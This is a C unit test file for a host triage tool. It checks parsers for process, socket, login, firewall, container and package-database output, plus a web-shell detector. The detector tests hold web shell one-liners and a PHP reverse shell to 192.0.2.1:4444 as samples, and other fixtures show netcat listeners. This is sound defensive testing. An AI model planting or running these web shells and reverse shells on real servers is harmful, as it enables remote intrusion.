/* SPDX-License-Identifier: Apache-2.0 */
/* What programs, runtimes, package managers and scripts of a host say: each
 * reader by what they write, and by what only an intruder would. */
#include "unit/unit.h"

#include "base/hash.h"
#include "base/time.h"
#include "probe/container.h"
#include "probe/firewall.h"
#include "probe/jsonread.h"
#include "probe/odd.h"
#include "probe/pkgdb.h"
#include "probe/said.h"
#include "probe/webscript.h"
#include "unit/triage_kit.h"

#define LIT(s) bytes_of(s, sizeof(s) - 1)

static void assert_bytes(struct bytes b, const char *want)
{
	if (!bytes_eq(b, bytes_str(want)))
		fail_msg("%.*s is not %s", (int)b.n, (const char *)b.p, want);
}

/* ---- what programs say ---- */

static void pids_are_heard(void **state UNUSED)
{
	struct numbers said = {0}, ours = {0}, missing = {0};

	said_processes(LIT("  PID\n    1\n   12\n12\n-5\n"
			   "99999999999999999999\n"),
		       &said);
	assert_int_equal(said.n, 2);
	assert_true(numbers_has(&said, 1));
	assert_true(numbers_has(&said, 12));
	assert_int_equal(numbers_common(&said, &said), 2);
	numbers_add(&ours, 1);
	numbers_add(&ours, 7);
	numbers_add(&ours, 12);
	numbers_missing(&ours, &ours, &said, &missing);
	assert_int_equal(missing.n, 1);
	assert_int_equal(missing.v[0], 7);
	numbers_release(&said);
	numbers_release(&ours);
	numbers_release(&missing);
}

/* In each form of ps(1), wherever the words of a process begin. */
static void commands_are_heard(void **state UNUSED)
{
	static const struct {
		const char *text, *command;
		uint64_t pid;
	} rows[] = {
		{"    1 systemd\n  812 Web Content\n", "Web Content", 812},
		{"USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n"
		 "kim 812 0.0 0.1 2 3 ? Ss Nov26 0:00 nc -l  4444\n",
		 "nc -l  4444", 812},
		{"UID PID PPID C STIME TTY TIME CMD\n"
		 "1000 812 1 0 07:00 ? 00:00:00 nc -l  4444 \n",
		 "nc -l  4444", 812},
		{"PID   USER     TIME  COMMAND\n    1 root      0:00 init\n",
		 "init", 1},
	};

	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		struct numbers said = {0};
		struct bytes command = bytes_str(rows[i].command);

		said_processes(bytes_str(rows[i].text), &said);
		assert_true(numbers_has(&said, rows[i].pid));
		assert_true(said_is_pid(rows[i].pid));
		assert_true(numbers_has(
			&said, said_command(rows[i].pid, command)));
		assert_false(numbers_has(&said,
					 said_command(rows[i].pid + 1,
						      command)));
		assert_false(numbers_has(
			&said, said_command(rows[i].pid, LIT("sshd"))));
		assert_false(said_is_pid(said_command(1, command)));
		numbers_release(&said);
	}
}

static void sockets_are_heard(void **state UNUSED)
{
	static const char ss[] =
		"Netid State  Recv-Q Send-Q Local Address:Port Peer "
		"Address:Port Process\n"
		"tcp   LISTEN 0      128          0.0.0.0:22        0.0.0.0:*\n"
		"udp   UNCONN 0      0      127.0.0.53%lo:53        0.0.0.0:*\n"
		"tcp   ESTAB  0      0          [::1]:22        [::1]:50000\n"
		"tcp   LISTEN 0 128 nonsense\n";
	static const char netstat[] =
		"Active Internet connections (servers and established)\n"
		"Proto Recv-Q Send-Q Local Address Foreign Address State\n"
		"tcp6       0      0 :::22         :::*          LISTEN\n";
	struct numbers all = {0}, listening = {0};

	said_sockets(LIT(ss), &all, &listening);
	assert_int_equal(all.n, 3);
	assert_int_equal(listening.n, 2);
	assert_true(numbers_has(&all, said_socket(false, 22, 0)));
	assert_true(numbers_has(&all, said_socket(false, 22, 50000)));
	assert_true(numbers_has(&listening, said_socket(true, 53, 0)));
	assert_int_equal(said_socket_local(said_socket(true, 53, 7)), 53);
	assert_int_equal(said_socket_remote(said_socket(true, 53, 7)), 7);
	numbers_release(&all);
	numbers_release(&listening);
	said_sockets(LIT(netstat), &all, NULL);
	assert_true(numbers_has(&all, said_socket(false, 22, 0)));
	numbers_release(&all);
}

static void names_are_heard(void **state UNUSED)
{
	struct numbers said = {0};

	said_modules(LIT("Module                  Size  Used by\n"
			 "nf_tables             376832  217 x\n"),
		     &said);
	assert_int_equal(said.n, 1);
	assert_true(numbers_has(&said, said_name(LIT("nf_tables"))));
	numbers_release(&said);
	said_names(LIT(".\n..\na b\nodd\001\n"), &said);
	assert_int_equal(said.n, 3);
	assert_true(numbers_has(&said, said_name(LIT("a b"))));
	assert_false(said_is_plain(LIT("odd\001")));
	numbers_release(&said);
	said_long_names(LIT("total 0\n"
			    "-rw-r--r-- 1 root root 9 Nov 26 07:00 a b\n"
			    "lrwxrwxrwx 1 root root 9 Nov 26 07:00 l -> /x y\n"
			    "crw-rw-rw- 1 root root 1, 3 Nov 26 07:00 null\n"),
			&said);
	assert_true(numbers_has(&said, said_name(LIT("a b"))));
	assert_true(numbers_has(&said, said_name(LIT("l"))));
	assert_true(numbers_has(&said, said_name(LIT("null"))));
	assert_false(numbers_has(&said, said_name(LIT("a"))));
	numbers_release(&said);
	said_found(LIT("/tmp/\n/tmp/a b\n/tmpx/c\n"), "/tmp/", &said);
	assert_int_equal(said.n, 2);
	assert_true(numbers_has(&said, said_name(LIT("."))));
	assert_true(numbers_has(&said, said_name(LIT("a b"))));
	numbers_release(&said);
	said_found(LIT("/\n/bin\n"), "/", &said);
	assert_true(numbers_has(&said, said_name(LIT("bin"))));
	numbers_release(&said);
}

static void logins_are_heard(void **state UNUSED)
{
	struct numbers said = {0};

	said_logins(LIT("kim      pts/0        2026-11-20 10:00 (h)\n"
			"administ pts/10       192.0.2.1 Thu Nov 20\n"
			"\nwtmp\n"),
		    &said);
	assert_int_equal(said.n, 2);
	assert_true(numbers_has(&said, said_login(LIT("kim"), LIT("pts/0"))));
	assert_true(numbers_has(
		&said, said_login(LIT("administrator"), LIT("pts/10"))));
	assert_false(numbers_has(&said, said_login(LIT("kim"), LIT("pts/1"))));
	numbers_release(&said);
}

/* A table of many chains and rules is counted in one go. */
static void many_chains_are_counted(void **state UNUSED)
{
	struct bed b = {0};
	struct took t;
	struct buf text;

	buf_init(&text, (size_t)16 << 20);
	(void)buf_add_str(&text, "*filter\n");
	for (int i = 0; i < 40000; i++)
		(void)buf_addf(&text, ":C%d - [0:0]\n", i);
	for (int i = 0; i < 120000; i++)
		(void)buf_addf(&text, "-A C%d -j RETURN\n", i % 40000);
	bed_make(&b);
	assert_int_equal(take_iptables(&b.tell, "iptables", buf_bytes(&text)),
			 120000);
	bed_end(&b, &t);
	hold_told(&t, "firewall", "iptables filter C39999",
		  PIECES("\"rules\":3"));
	took_release(&t);
	buf_release(&text);
}

static void filters_are_counted(void **state UNUSED)
{
	static const char nft[] =
		"table inet filter {\n"
		"\tset bad {\n\t\ttype ipv4_addr\n\t}\n"
		"\tchain input {\n"
		"\t\ttype filter hook input priority filter; policy drop;\n"
		"\t\tiif \"lo\" accept\n"
		"\t\ttcp dport { 22, 80 } accept\n"
		"\t}\n"
		"\tchain output {\n\t}\n"
		"}\n";
	static const char save[] =
		"*filter\n:INPUT DROP [0:0]\n:F2B - [0:0]\n"
		"-A INPUT -i lo -j ACCEPT\n-A INPUT -j F2B\n-A F2B -j RETURN\n"
		"COMMIT\n*nat\n:INPUT ACCEPT [0:0]\nCOMMIT\n";
	struct bed b = {0};
	struct took t;

	bed_make(&b);
	assert_int_equal(take_nft(&b.tell, LIT(nft)), 2);
	assert_int_equal(take_iptables(&b.tell, "iptables", LIT(save)), 3);
	bed_end(&b, &t);
	hold_told(&t, "firewall", "nft inet filter input",
		  PIECES("\"policy\":\"drop\"", "\"rules\":2"));
	hold_told(&t, "firewall", "nft inet filter output",
		  PIECES("\"policy\":\"\"", "\"rules\":0"));
	hold_told(&t, "firewall", "iptables filter INPUT",
		  PIECES("\"policy\":\"drop\"", "\"rules\":2"));
	hold_told(&t, "firewall", "iptables filter F2B",
		  PIECES("\"policy\":\"\"", "\"rules\":1"));
	hold_told(&t, "firewall", "iptables nat INPUT",
		  PIECES("\"policy\":\"accept\"", "\"rules\":0"));
	took_release(&t);
}

/* ---- containers ---- */

static void members_of_json_are_found(void **state UNUSED)
{
	static const char doc[] =
		" {\"a\": [1, {\"x\": \"]\"}], \"b\\\"\": 2, \"State\": "
		"{\"Pid\": 42, \"Up\": true}, \"s\": \"q\\u00e9\\n\\\\\"} ";
	struct bytes v;
	struct buf text;

	assert_true(json_at(LIT(doc), "State.Pid", &v));
	assert_int_equal(json_u64(v), 42);
	assert_true(json_at(LIT(doc), "State.Up", &v));
	assert_true(json_yes(v));
	assert_false(json_at(LIT(doc), "State.Pid.x", &v));
	assert_false(json_at(LIT(doc), "Up", &v));
	assert_false(json_at(LIT("{\"a\":"), "a", &v));
	assert_false(json_at(LIT("{\"a\" 1}"), "a", &v));
	assert_false(json_at((struct bytes){0}, "a", &v));
	buf_init(&text, 64);
	assert_true(json_at(LIT(doc), "s", &v));
	assert_true(json_text(v, &text));
	assert_bytes(buf_bytes(&text), "q\xc3\xa9\n\\");
	buf_release(&text);
}

static void containers_are_told(void **state UNUSED)
{
	static const char config[] =
		"{\"ID\":\"abc\",\"Created\":\"2026-11-21T22:14:05.123456789Z"
		"\",\"Path\":\"/bin/sh\",\"Args\":[\"-c\",\"sleep 9\"],"
		"\"State\":{\"Running\":true,\"Pid\":77},\"Config\":{\"Image\":"
		"\"nginx:1\"},\"MountPoints\":{\"/host\":{\"Source\":\"/\","
		"\"Destination\":\"/host\"}}}";
	static const char host[] =
		"{\"Privileged\":true,\"Binds\":[\"/etc:/e:ro\"]}";
	static const char oci[] =
		"{\"process\":{\"args\":[\"nc\",\"-l\"],\"capabilities\":{"
		"\"bounding\":[\"CAP_CHOWN\",\"CAP_SYS_ADMIN\"]}},\"mounts\":[{"
		"\"destination\":\"/proc\",\"type\":\"proc\",\"source\":"
		"\"proc\"},{\"destination\":\"/h\",\"type\":\"bind\","
		"\"source\":\"/home\"}],\"annotations\":{"
		"\"io.kubernetes.cri.image-name\":\"evil:2\"}}";
	static const char lxc[] =
		"lxc.uts.name = web\n"
		"lxc.mount.entry = /srv srv none bind 0 0\n";
	struct bed b = {0};
	struct took t;

	bed_make(&b);
	take_docker(&b.tell, LIT("abc"), LIT(config), LIT(host));
	take_docker(&b.tell, LIT("junk"), LIT("{"), LIT("]"));
	take_oci(&b.tell, "containerd", LIT("def"), LIT(oci), 88);
	take_lxc(&b.tell, LIT("web"), LIT(lxc));
	bed_end(&b, &t);
	hold_told(&t, "container", "abc",
		  PIECES("\"runtime\":\"docker\"", "\"image\":\"nginx:1\"",
			 "\"pid\":77", "\"state\":\"running\"",
			 "\"privileged\":true",
			 "\"mounts\":[\"/:/host\",\"/etc:/e:ro\"]",
			 "\"command\":\"/bin/sh -c sleep 9\"",
			 "\"created_at\":1795299245123456789"));
	hold_told(&t, "container", "junk", PIECES("\"state\":\"stopped\""));
	hold_told(&t, "container", "def",
		  PIECES("\"runtime\":\"containerd\"", "\"image\":\"evil:2\"",
			 "\"pid\":88", "\"privileged\":true",
			 "\"mounts\":[\"/home:/h\"]",
			 "\"command\":\"nc -l\""));
	hold_told(&t, "container", "web",
		  PIECES("\"mounts\":[\"/srv:srv\"]", "\"privileged\":true"));
	took_release(&t);
}

/* ---- files ---- */

static void capabilities_are_spelled_out(void **state UNUSED)
{
	static const uint8_t raw[20] = {
		[0] = 1, [3] = 2, [4] = 0x80, [5] = 0x20, [12] = 0};
	static const uint8_t high[20] = {[3] = 2, [12] = 0x80};
	char out[CAPS_ROOM];

	odd_caps(bytes_of(raw, sizeof raw), out);
	assert_string_equal(out, "cap_setuid,cap_net_raw+ep");
	odd_caps(bytes_of(high, sizeof high), out);
	assert_string_equal(out, "cap_bpf+p");
	odd_caps(bytes_of(raw, 11), out);
	assert_string_equal(out, "");
	odd_caps((struct bytes){0}, out);
	assert_string_equal(out, "");
}

static void hold_signs(const char *text, const char *want)
{
	const char *signs[WEBSCRIPT_SIGNS];
	char all[256] = "";
	size_t n = webscript_signs(bytes_str(text), signs), at = 0;

	for (size_t i = 0; i < n; i++)
		at += (size_t)snprintf(all + at, sizeof all - at, "%s%s",
				       i ? " " : "", signs[i]);
	if (strcmp(all, want) != 0)
		fail_msg("%s: %s, not %s", text, all, want);
}

static void web_shells_have_signs(void **state UNUSED)
{
	hold_signs("<?php @eval($_POST['x']); ?>", "request-eval");
	hold_signs("<?php EVAL ( $_REQUEST[1] );", "request-eval");
	hold_signs("<?php $_GET['a']($_GET['b']);", "request-eval");
	hold_signs("<?php system($_GET['c']);", "request-exec");
	hold_signs("<?php echo `$_GET[c]`;", "");
	hold_signs("<?php eval(gzinflate(base64_decode('...')));",
		   "decode-eval");
	hold_signs("<%Runtime.getRuntime().exec(request.getParameter(\"c\"))%>",
		   "request-exec");
	hold_signs("$s=fsockopen('192.0.2.1',4444);exec('/bin/sh -i');",
		   "reverse-shell");
	hold_signs("php_value auto_prepend_file /tmp/x", "preload");
	hold_signs("AddType application/x-httpd-php .jpg", "interpreter");
	/* what honest scripts do */
	hold_signs("<?php echo htmlspecialchars($_GET['q']); system('ls');",
		   "");
	hold_signs("<?php $x = base64_decode($y); function evaluate($_POST){}",
		   "");
	hold_signs("<?php include(__DIR__ . '/x.php'); $a = $_POST['b'];", "");
	hold_signs("", "");
	assert_true(webscript_name(LIT("X.PHP")));
	assert_true(webscript_name(LIT(".htaccess")));
	assert_false(webscript_name(LIT("x.html")));
	assert_string_equal(content_kind(LIT("\x1f\x8b\x08...")), "gzip");
	assert_true(content_is_archive("gzip"));
	assert_false(content_is_archive("elf"));
}

/* ---- packages ---- */

struct heard {
	unsigned packages, files, configs;
	char last[256], hash[HASH_HEX_MAX];
};

static void on_package(void *arg, const struct pkg *p)
{
	struct heard *h = arg;

	h->packages++;
	snprintf(h->last, sizeof h->last, "%.*s %.*s %.*s %.*s %lld",
		 (int)p->name.n, (const char *)p->name.p, (int)p->version.n,
		 (const char *)p->version.p, (int)p->arch.n,
		 (const char *)p->arch.p, (int)p->status.n,
		 (const char *)p->status.p,
		 p->installed_ns == TIME_UNKNOWN
			 ? -1LL
			 : (long long)(p->installed_ns / NS_PER_S));
}

static void on_file(void *arg, const struct pkg_file *f)
{
	struct heard *h = arg;

	h->files++;
	h->configs += f->config;
	snprintf(h->last, sizeof h->last, "%.*s %.*s", (int)f->package.n,
		 (const char *)f->package.p, (int)f->path.n,
		 (const char *)f->path.p);
	(void)hex_encode(bytes_of(f->hash, f->n_hash), h->hash,
			 sizeof h->hash);
}

static void databases_of_packages_are_read(void **state UNUSED)
{
	static const char status[] =
		"Package: a\nStatus: install ok installed\nVersion: 1-2\n"
		"Architecture: all\nConffiles:\n"
		" /etc/a 0123456789abcdef0123456789abcdef\n"
		" /etc/old 0123456789abcdef0123456789abcdef obsolete\n"
		"Description: x\n /etc/not 0123456789abcdef0123456789abcdef\n"
		"\n\nPackage: b\nStatus: deinstall ok config-files\n"
		"Version: 3\nArchitecture: amd64\n\nnonsense\n";
	static const char apk[] =
		"C:Q1xx\nP:musl\nV:1.2\nA:x86_64\nF:lib\nR:ld.so\n"
		"Z:Q1AAECAwQFBgcICQoLDA0ODxAREhM=\nF:usr\nZ:Q1xx\n\n"
		"P:b\nV:2\n";
	static const char desc[] =
		"%NAME%\nbash\n\n%VERSION%\n5.2-1\n\n%ARCH%\nx86_64\n\n"
		"%INSTALLDATE%\n1795299245\n";
	struct heard h = {0};
	struct pkg p;

	pkgdb_dpkg(LIT(status), on_package, NULL, &h);
	assert_int_equal(h.packages, 2);
	assert_string_equal(h.last, "b 3 amd64 config-files -1");
	pkgdb_dpkg(LIT(status), NULL, on_file, &h);
	assert_int_equal(h.files, 1);
	assert_int_equal(h.configs, 1);
	assert_string_equal(h.last, "a /etc/a");
	h = (struct heard){0};
	pkgdb_md5sums(LIT("c"),
		      LIT("0123456789abcdef0123456789abcdef  usr/bin/x y\n"
			  "short  usr/bin/z\n"),
		      on_file, &h);
	assert_int_equal(h.files, 1);
	assert_string_equal(h.last, "c usr/bin/x y");
	h = (struct heard){0};
	pkgdb_apk(LIT(apk), on_package, NULL, &h);
	assert_int_equal(h.packages, 2);
	pkgdb_apk(LIT(apk), NULL, on_file, &h);
	assert_int_equal(h.files, 1);
	assert_string_equal(h.last, "musl lib/ld.so");
	assert_string_equal(h.hash,
			    "000102030405060708090a0b0c0d0e0f10111213");
	assert_true(pkgdb_pacman(LIT(desc), &p));
	on_package(&h, &p);
	assert_string_equal(h.last, "bash 5.2-1 x86_64 installed 1795299245");
	pkgdb_rpm(LIT("bash\t5.2-1\tx86_64\t1795299245\njunk\n"), on_package,
		  &h);
	assert_string_equal(h.last, "bash 5.2-1 x86_64 installed 1795299245");
}

static void answers_of_rpm_are_read(void **state UNUSED)
{
	bool config, missing;
	struct bytes path;

	assert_true(pkgdb_rpm_verify(LIT("S.5....T.  c /etc/ssh/sshd_config"),
				     &path, &config, &missing));
	assert_bytes(path, "/etc/ssh/sshd_config");
	assert_true(config && !missing);
	assert_true(pkgdb_rpm_verify(LIT("missing     /usr/bin/ps"), &path,
				     &config, &missing));
	assert_true(missing && !config);
	assert_false(pkgdb_rpm_verify(LIT(".......T.    /usr/bin/ls"), &path,
				      &config, &missing));
	assert_false(pkgdb_rpm_verify(LIT("package x is not installed"), &path,
				      &config, &missing));
	assert_false(pkgdb_rpm_verify((struct bytes){0}, &path, &config,
				      &missing));
}

static void diverted_files_are_elsewhere(void **state UNUSED)
{
	static const char text[] =
		"/usr/bin/x\n/usr/bin/x.distrib\nother\n"
		"/usr/bin/y\n/usr/bin/y.distrib\n:\n";

	assert_bytes(pkgdb_diverted(LIT(text), LIT("a"), LIT("/usr/bin/x")),
		     "/usr/bin/x.distrib");
	assert_bytes(pkgdb_diverted(LIT(text), LIT("other"), LIT("/usr/bin/x")),
		     "/usr/bin/x");
	assert_bytes(pkgdb_diverted(LIT(text), LIT("a"), LIT("/usr/bin/z")),
		     "/usr/bin/z");
	assert_true(pkgdb_is_critical(LIT("/usr/sbin/sshd")));
	assert_true(pkgdb_is_critical(
		LIT("/usr/lib/x86_64-linux-gnu/security/pam_unix.so")));
	assert_false(pkgdb_is_critical(LIT("/usr/bin/cowsay")));
	assert_true(pkgdb_is_checked(LIT("/usr/bin/cowsay")));
	assert_false(pkgdb_is_checked(LIT("/usr/share/doc/x")));
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(pids_are_heard),
		cmocka_unit_test(commands_are_heard),
		cmocka_unit_test(logins_are_heard),
		cmocka_unit_test(many_chains_are_counted),
		cmocka_unit_test(sockets_are_heard),
		cmocka_unit_test(names_are_heard),
		cmocka_unit_test(filters_are_counted),
		cmocka_unit_test(members_of_json_are_found),
		cmocka_unit_test(containers_are_told),
		cmocka_unit_test(capabilities_are_spelled_out),
		cmocka_unit_test(web_shells_have_signs),
		cmocka_unit_test(databases_of_packages_are_read),
		cmocka_unit_test(answers_of_rpm_are_read),
		cmocka_unit_test(diverted_files_are_elsewhere),
	};

	hash_lib_init();
	return cmocka_run_group_tests(tests, NULL, NULL);
}
